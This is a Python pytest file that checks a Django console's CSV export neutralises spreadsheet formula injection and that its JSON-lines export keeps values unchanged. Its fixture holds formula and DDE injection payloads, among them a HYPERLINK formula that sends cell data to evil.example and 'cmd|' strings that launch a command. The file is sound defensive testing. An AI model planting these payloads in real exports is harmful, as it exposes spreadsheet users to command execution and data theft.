"""The CSV export is safe to open in a spreadsheet: no cell starts with a character a spreadsheet
reads as a formula (=, +, -, @, tab, carriage return) unless neutralised by a leading quote."""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Group, User

from routes_admin.models import RequestLog

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "path": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "+cmd|' /C calc'!A0",
    "request_id": "-2+3+cmd|' /C calc'!A0",
    "upstream_model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target": "\t=1+1",
    "route_name": "\r=1+1",
    "fallback_from": "=1+1",
}


@pytest.fixture
def console(client):
    user = User.objects.create_user("auditor", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Auditor"))
    client.force_login(user)
    return client


def test_every_cell_of_the_csv_export_reads_as_text(console):
    RequestLog.objects.create(method="POST", status=502, latency_ms=1, detail={"why": "=cmd"}, **HOSTILE)
    RequestLog.objects.create(request_id="plain", method="GET", path="/v1/models", status=200, latency_ms=2)
    response = console.get("/console/calls/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    table = list(csv.reader(io.StringIO(text, newline="")))
    header, rows = table[0], table[1:]
    assert len(rows) == 2
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)  # a spreadsheet would run it
    hostile = dict(zip(header, rows[1] if rows[0][header.index("request_id")] == "plain" else rows[0], strict=True))
    for name, value in HOSTILE.items():
        assert hostile[name] == "'" + value, name  # neutralised, and otherwise kept as it was


def test_json_lines_keep_the_values_exact(console):
    RequestLog.objects.create(method="POST", status=502, latency_ms=1, **HOSTILE)
    line = b"".join(console.get("/console/calls/export.jsonl").streaming_content).decode()
    row = json.loads(line)
    assert {name: row[name] for name in HOSTILE} == HOSTILE
